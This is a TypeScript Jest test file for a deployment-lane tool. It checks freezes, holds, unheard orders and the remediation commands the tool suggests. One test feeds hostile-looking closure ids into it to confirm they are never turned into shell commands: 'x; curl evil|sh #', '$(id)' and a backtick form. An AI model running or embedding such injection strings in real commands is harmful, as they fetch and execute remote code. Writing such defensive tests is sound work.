import { describe, expect, it } from '@jest/globals';
import type { LaneClosure, LaneOrder, Stored } from '../../domain/contract/lane.ts';
import type { LaneStatus } from '../../domain/contract/status.ts';
import { keptOutBy, closuresBy, holdIdOf, newestOf, passedBy } from '../../domain/lane-closures.ts';
import { differencesOf, unheardOrders } from '../../domain/lane-standing.ts';
import { newLane, withFewClosures } from '../../domain/lane-state.ts';
import { aMember } from './builders.ts';

const lane = { service: 'shop', environment: 'production' };
const now = 100_000;

function aClosure(changes: Partial<LaneClosure> = {}): LaneClosure {
  const about = { id: 'f1', scope: lane, from: 1, by: 'kim', reason: 'sale' };
  return { ...about, kind: 'freeze', passes: [{ kind: 'rollback' }], ...changes };
}
const hold = (id: string, by = 'release/one') => aClosure({ id, by, kind: 'hold', reason: 'halted' });
const says = (...closures: LaneClosure[]): Pick<LaneStatus, 'holder' | 'closures'> => ({ closures });
const holder = { member: aMember('release/one'), ticket: { incarnation: 1, n: 1 }, since: 1 };

describe('what a lane says of itself', () => {
  it.each<[string, LaneClosure[], LaneClosure[], string[]]>([
    ['nothing, of an open lane', [], [], []],
    ['the freeze on record', [aClosure()], [aClosure()], []],
    ['the hold on record, by a name of its own', [hold('hold-release-one')], [hold('hold-1.1')], []],
    [
      'the hold on record, in other words',
      [hold('hold-release-one')],
      [{ ...hold('hold-1.1'), reason: 'nothing was changed' }],
      ['the lane itself says of the hold hold-1.1 in other words than those on record: on hold: nothing was changed'],
    ],
    ['a freeze that is over', [], [aClosure({ until: now })], []],
    [
      'nothing of a freeze on record',
      [aClosure()],
      [],
      ['the lane itself does not say that it is closed by the freeze f1, which is in force all the same'],
    ],
    [
      'a hold that nobody has left',
      [],
      [hold('hold-1.1')],
      [
        'the lane itself says that it is closed by the hold hold-1.1, which is not on record so: on hold: halted; nothing on record closes the lane',
      ],
    ],
    [
      'other words than those that were signed',
      [aClosure()],
      [aClosure({ reason: 'ask mallory' })],
      [
        'the lane itself does not say that it is closed by the freeze f1, which is in force all the same',
        'the lane itself says that it is closed by the freeze f1, which is not on record so: frozen by kim: ask mallory',
      ],
    ],
  ])('is %s', (_what, closures, said, differences) => {
    const known = { closures, orders: [] };
    expect(differencesOf(known, says(...said), { lane, now }).map(({ words }) => words)).toEqual(differences);
  });

  it.each([
    ['the holder on record', holder, { releaseId: 'release/one', ticket: holder.ticket, since: 9 }, []],
    ['nobody', holder, undefined, ['the lane itself says that nobody holds it']],
    [
      'somebody else',
      undefined,
      { releaseId: 'release/two', ticket: holder.ticket, since: 9 },
      ['the lane itself says that release/two holds it, which is not on record so'],
    ],
    [
      'the same with another ticket',
      holder,
      { releaseId: 'release/one', ticket: { incarnation: 9, n: 9 }, since: 9 },
      ['the lane itself says that release/one holds it, which is not on record so'],
    ],
  ])('is that it is held by %s', (_whom, recorded, said, differences) => {
    const known = { closures: [], orders: [], ...(recorded && { holder: recorded }) };
    const found = differencesOf(known, { closures: [], ...(said && { holder: said }) }, { lane, now });
    expect(found.map(({ words }) => words)).toEqual(differences);
    for (const { next } of found)
      expect(next).toMatch(/terminate lane\/shop\/production .* begins anew from the records/);
  });

  const place = '--service shop --environment production';
  const tell = `slipway lane tell ${place}`;
  const about = { lane, by: 'kim', at: 1, reason: 'sale' };
  const unfreeze: LaneOrder = { ...about, id: 'o1', kind: 'unfreeze', lifts: 'f1' };
  const anew = expect.stringMatching(/^if it stays so, terminate lane\/shop\/production in Temporal/) as unknown;
  it.each<[string, LaneOrder[], LaneClosure[], LaneClosure[], unknown[]]>([
    ['to be told, of a freeze that it has not heard', [], [aClosure()], [], [tell]],
    ['to be told, of what has lifted its freeze', [unfreeze], [], [aClosure()], [tell]],
    ['to lift what it alone has', [], [], [aClosure()], [`slipway unfreeze ${place} --id f1 --reason "…"`]],
    ['to clear a hold of its own', [], [], [hold('h')], [`slipway lane clear-hold ${place} --id h --reason "…"`]],
    ['to begin anew, for a hold that it does not know', [], [hold('h')], [], [anew]],
    ['to begin anew, where it invents a window', [], [], [aClosure({ kind: 'window' })], [anew]],
    [
      'to begin anew, where it names its own as one on record',
      [],
      [aClosure()],
      [aClosure({ reason: 'another' })],
      [tell, anew],
    ],
    ...['x; curl evil|sh #', '$(id)', '`id`', '--force', 'a b', 'a\nb', "'"].map(
      (id): [string, LaneOrder[], LaneClosure[], LaneClosure[], unknown[]] => [
        `by no command, where its name is no plain word: ${JSON.stringify(id)}`,
        ...([[], []] satisfies [LaneOrder[], LaneClosure[]]),
        ...([[aClosure({ id })], [anew]] satisfies [LaneClosure[], unknown[]]),
      ],
    ),
  ])('has a way out: %s', (_what, orders, closures, said, ways) => {
    const found = differencesOf({ closures, orders }, says(...said), { lane, now });
    expect(found.map(({ next }) => next)).toEqual(ways);
  });
});

describe('orders that a lane has not heard', () => {
  const about = { lane, by: 'kim', at: 1, reason: 'sale' };
  const freeze = (id: string): LaneOrder => ({ ...about, id, kind: 'freeze' });
  const lifting = (id: string, lifts: string, of?: string): LaneOrder =>
    of === undefined ? { ...about, id, kind: 'unfreeze', lifts } : { ...about, id, kind: 'clear-hold', lifts, of };

  it.each<[string, LaneOrder[], LaneClosure[], LaneClosure[], string[]]>([
    ['a freeze in force that it does not know', [freeze('f1')], [aClosure()], [], ['f1']],
    ['none that it knows', [freeze('f1')], [aClosure()], [aClosure()], []],
    ['no freeze that was lifted since', [freeze('f1'), lifting('o1', 'f1')], [], [], []],
    ['what has lifted a freeze that it still has', [freeze('f1'), lifting('o1', 'f1')], [], [aClosure()], ['o1']],
    [
      'the last that has cleared a hold, by the run that left it',
      [lifting('o1', 'x', 'release/one'), lifting('o2', 'hold-release-one', 'release/one')],
      [],
      [hold('hold-1.1')],
      ['o2'],
    ],
    ['nothing for a hold that nobody has cleared', [lifting('o1', 'x', 'release/two')], [], [hold('hold-1.1')], []],
    [
      'nothing for a hold that was left again',
      [lifting('o1', 'x', 'release/one')],
      [hold('h')],
      [hold('hold-1.1')],
      [],
    ],
  ])('are %s', (_what, orders, recorded, said, unheard) => {
    expect(unheardOrders(orders, { closures: recorded }, { closures: said }).map(({ id }) => id)).toEqual(unheard);
  });
});

describe('what a lane should have kept out', () => {
  const freeze: Stored<LaneOrder> = { id: 'f1', kind: 'freeze', lane, by: 'kim', at: 1, reason: 'sale', storedAt: 500 };
  const closures = (changes: Partial<typeof freeze> = {}) =>
    closuresBy({ orders: [{ ...freeze, ...changes }], holds: [] }, { lane, now });

  it.each<[string, number, string, string | undefined]>([
    ['a release that was let in after the freeze', 501, 'release/shop/production/c/1', 'f1'],
    ['no release that was inside before it', 500, 'release/shop/production/c/1', undefined],
    ['no rollback', 501, 'rollback/shop/production/o', undefined],
  ])('is %s', (_whom, heldSince, releaseId, id) => {
    const member = { ...aMember(releaseId), kind: 'rollback' as const };
    expect(passedBy(closures(), { member, heldSince }, now)?.id).toBe(id);
  });

  it.each([
    ['ends in a moment', now + 9_999, undefined],
    ['ends later', now + 10_001, 'f1'],
  ])('is nobody under a freeze that %s: clocks differ', (_when, until, id) => {
    expect(keptOutBy(closures({ until }), aMember('release/shop/production/c/1'), now)?.id).toBe(id);
  });
});

describe('the hold that a run may leave', () => {
  const [commit, id] = ['a'.repeat(40), '3f1c7d5e-0000-4000-8000-000000000001'];

  it.each([
    [`release/shop/production/${commit}/1`, `hold-release-${commit}-1`],
    [`rollback/shop/production/${id}`, `hold-rollback-${id}`],
  ])('is named in short: %s', (run, name) => {
    expect(holdIdOf(run)).toBe(name);
  });

  it.each([`${commit}-1`, `${commit}/1/`, `${commit}/1/1`, `-${commit}/1`, `${commit}/x`, `${commit}/1-1`])(
    'has a name that no other run has: %s',
    (about) => {
      const run = `release/shop/production/${about}`;
      expect(holdIdOf(run)).toBe(`hold-${run}`);
    },
  );
});

describe('what a lane carries of what closes it', () => {
  /** The newest first, so that its place in the list says nothing. */
  const closures = (count: number) =>
    Array.from({ length: count }, (_, n) => aClosure({ id: `f${count - n}`, from: count - n }));
  const ids = (all: readonly LaneClosure[]) => all.map(({ id }) => id);
  const aLane = (all: LaneClosure[], moreClosures = 0) =>
    newLane(lane, { incarnation: 1, sequence: 1, waiting: [], closures: all, moreClosures });

  it('is all of it as long as a message holds that, and else the newest fifty', () => {
    expect(ids(newestOf(closures(50)))).toEqual(ids(closures(50)));
    const newest = ids(newestOf(closures(120)));
    expect([newest.length, newest[0], newest.at(-1)]).toEqual([50, 'f71', 'f120']);
  });

  it('makes room for what is newer, and counts what it carries no more to the older ones', () => {
    const before = aLane(closures(50), 3);
    const newer = [aClosure({ id: 'sale', from: 900 }), aClosure({ id: 'audit', from: 901 })];
    const after = withFewClosures(before, { ...before, closures: [...before.closures, ...newer] });
    expect(after.moreClosures).toBe(5);
    expect(ids(after.closures)).toEqual(expect.arrayContaining(['f3', 'f50', 'sale', 'audit']));
    expect(ids(after.closures)).not.toEqual(expect.arrayContaining(['f1']));
    expect(ids(after.closures)).not.toEqual(expect.arrayContaining(['f2']));
  });

  it('does not count one twice that it is told again, and did not carry', () => {
    const before = aLane(closures(50), 3);
    const again = [...before.closures, aClosure({ id: 'f0', from: 0 })];
    const after = withFewClosures(before, { ...before, closures: again });
    expect([after.moreClosures, ids(after.closures).includes('f0')]).toEqual([3, false]);
  });
});
